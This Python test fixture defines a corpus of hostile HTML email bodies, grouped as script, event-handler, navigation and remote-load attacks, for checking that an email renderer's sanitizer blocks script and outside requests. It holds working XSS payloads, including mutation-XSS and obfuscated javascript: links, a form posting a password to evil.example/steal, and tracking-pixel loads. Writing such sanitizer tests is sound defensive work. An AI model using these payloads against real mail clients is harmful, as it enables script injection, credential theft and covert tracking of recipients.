"""Hostile HTML mails: each piece tries to run script (setting the sentinel
``window.__pwned``, or opening a dialog) or to make the browser fetch
something from another host (``*.example``: every such request is recorded).

Grouped by what they attack; each group is one thread of several mails (so a
handful of page loads render the whole corpus). Every mail is a real .eml
(text and HTML alternatives) filed through the email adapter's parser.
"""

from __future__ import annotations

# A tiny valid PNG: inline data images are allowed (no request is made).
PNG_1PX = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42"
           "mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")

CORPUS: dict[str, list[tuple[str, str]]] = {
    "script": [
        ("script tag", "<p>Hello</p><script>window.__pwned = 'script'</script>"),
        ("remote script", '<script src="http://evil.example/x.js"></script><p>remote</p>'),
        ("upper-case script", "<SCRIPT>window.__pwned = 'SCRIPT'</SCRIPT><p>upper</p>"),
        ("conditional comment", "<!--[if IE]><script>window.__pwned = 'ie'</script>"
                                "<![endif]--><p>ie</p>"),
        ("noscript mXSS", '<noscript><p title="</noscript><img src=x '
                          "onerror=\"window.__pwned='noscript'\">\"></noscript><p>nos</p>"),
        ("math mXSS", "<math><mtext><table><mglyph><style><img src=x "
                      "onerror=\"window.__pwned='math'\"></style></mglyph></table>"
                      "</mtext></math><p>math</p>"),
        ("template", "<template><script>window.__pwned='template'</script></template><p>t</p>"),
    ],
    "events": [
        ("img onerror", "<img src=x onerror=\"window.__pwned = 'onerror'\" alt=broken>"),
        ("body onload", "<body onload=\"window.__pwned = 'onload'\"><p>body</p></body>"),
        ("hover and click", "<div onmouseover=\"window.__pwned='hover'\" "
                            "onclick=\"window.__pwned='click'\" tabindex=0 "
                            "onfocus=\"alert('focus')\">hover me</div>"),
        ("unknown element", "<x-custom onclick=\"window.__pwned='custom'\">custom</x-custom>"),
        ("details ontoggle", "<details open ontoggle=\"window.__pwned='toggle'\">"
                             "<summary>s</summary>d</details>"),
        ("svg onload", "<svg onload=\"window.__pwned='svg'\"><circle r=1 /></svg><p>svg</p>"),
        ("svg script", "<svg><script>window.__pwned='svg script'</script>"
                       "<a xlink:href=\"javascript:window.__pwned='svg link'\">"
                       "<text>svg link</text></a></svg>"),
        ("svg data image", '<img src="data:image/svg+xml;base64,'
                           'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0i'
                           'YWxlcnQoMSkiLz4=" alt=svgdata>'),
    ],
    "navigation": [
        ("javascript link", "<a href=\"javascript:window.__pwned='js link'\">js link</a>"),
        ("obfuscated javascript", "<a href=\"jav&#x09;ascript:window.__pwned='tab'\">tab</a> "
                                  "<a href=\" JaVaScRiPt:window.__pwned='case'\">case</a>"),
        ("vbscript and data links", '<a href="vbscript:msgbox(1)">vb</a> '
                                    '<a href="data:text/html,<script>alert(1)</script>">'
                                    "data</a>"),
        ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example/">'
                         "<p>refresh</p>"),
        ("base href", '<base href="http://evil.example/"><a href="relative">relative</a>'
                      '<img src="pixel.gif" alt=relative>'),
        ("form", '<form action="http://evil.example/steal" method="post">'
                 '<input name="password" value="x"><button formaction='
                 "\"javascript:window.__pwned='form'\">Send</button></form><p>form</p>"),
        ("iframe", '<iframe src="http://evil.example/" srcdoc="<script>'
                   "parent.__pwned='srcdoc'</script>\"></iframe><p>iframe</p>"),
        ("object and embed", '<object data="http://evil.example/x.swf"></object>'
                             '<embed src="http://evil.example/y.swf"><p>plugins</p>'),
    ],
    "remote": [
        ("tracking pixel", '<p>pixel</p><img src="http://tracker.example/open.gif?u=1" '
                           'width="1" height="1">'),
        ("https image", '<img src="https://tracker.example/logo.png" alt="logo">'),
        ("srcset", '<img srcset="http://tracker.example/1x.gif 1x, '
                   'http://tracker.example/2x.gif 2x" alt=srcset>'
                   '<picture><source srcset="http://tracker.example/p.webp">'
                   '<img alt="picture"></picture>'),
        ("background attributes", '<table background="http://tracker.example/table.gif">'
                                  '<tr><td background="http://tracker.example/td.gif">cell</td>'
                                  '</tr></table><body background="http://tracker.example/b.gif">'),
        ("css url", '<div style="background:url(http://tracker.example/css.gif); color: red">'
                    'css url</div><p style="background-image: u\\72l(http://tracker.example/'
                    'escaped.gif)">escaped</p>'),
        ("css expression", "<div style=\"width: expression(window.__pwned='expr')\">expr</div>"),
        ("style tag import", "<style>@import url(http://evil.example/x.css); body { background: "
                             "url(http://tracker.example/body.gif) }</style><p>style</p>"),
        ("link stylesheet", '<link rel="stylesheet" href="http://evil.example/y.css">'
                            "<p>link</p>"),
        ("media", '<video src="http://evil.example/v.mp4" poster="http://tracker.example/p.gif">'
                  '</video><audio src="http://evil.example/a.mp3"></audio><p>media</p>'),
        ("font face", "<style>@font-face { font-family: x; src: url(http://evil.example/f.woff) }"
                      "</style><p style=\"font-family: x\">font</p>"),
        ("inline data image", f'<p>signature</p><img src="{PNG_1PX}" alt="signature">'),
    ],
}
